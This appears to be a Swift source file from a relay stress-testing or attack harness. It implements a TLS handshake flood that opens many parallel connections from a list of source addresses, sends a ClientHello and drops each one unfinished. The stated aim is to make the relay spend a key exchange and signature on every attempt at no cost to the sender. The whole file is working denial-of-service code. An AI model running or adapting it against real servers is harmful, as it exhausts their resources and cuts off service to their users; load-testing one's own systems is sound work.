import BaseKit
import Foundation
import Glibc
import SMP
import SMPSession

/// TLS handshakes that are begun and not ended: each costs the relay a key and a signature, and its sender nothing, who says the
/// same each time.
struct HandshakeFlood: Sendable {
    /// At the same time, from each address.
    private static let parallel = 8

    let relay: RelayAddress
    let tally: Tally

    func run(until end: Instant) async throws {
        let hello = try clientHello()
        await withDiscardingTaskGroup { group in
            for address in Attack.addresses {
                for _ in 0..<Self.parallel {
                    // Each waits in a thread of its own.
                    group.addTask {
                        await withCheckedContinuation { continuation in
                            Thread.detachNewThread {
                                while .now < end { begin(hello, from: address) }
                                continuation.resume()
                            }
                        }
                    }
                }
            }
        }
    }

    private func begin(_ hello: [UInt8], from address: String) {
        guard let descriptor = RawSocket.dial(relay, from: address) else {
            tally.count("not connected")
            usleep(1_000)
            return
        }
        defer { close(descriptor) }
        // It leaves without a word, and its port can be used again at once.
        var linger = linger(l_onoff: 1, l_linger: 0)
        setsockopt(descriptor, SOL_SOCKET, SO_LINGER, &linger, socklen_t(MemoryLayout.size(ofValue: linger)))
        tally.count("handshakes begun")
        guard send(descriptor, hello, hello.count, Int32(MSG_NOSIGNAL)) == hello.count else { return }
        var wanted = pollfd(fd: descriptor, events: Int16(POLLIN), revents: 0)
        var byte: UInt8 = 0
        guard poll(&wanted, 1, 10_000) == 1, recv(descriptor, &byte, 1, 0) == 1 else { return }
        tally.count("answered")
    }

    /// What a client says first.
    private func clientHello() throws -> [UInt8] {
        let context = try TLSContext(role: .client, options: TLSOptions())
        let session = try TLSSession(context: context, expectedKeyHash: relay.keyHash)
        _ = try session.handshake()
        var bytes = [UInt8](repeating: 0, count: session.pendingOutput)
        let count = bytes.withUnsafeMutableBytes { session.takeOutput(into: $0) }
        return Array(bytes.prefix(count))
    }
}
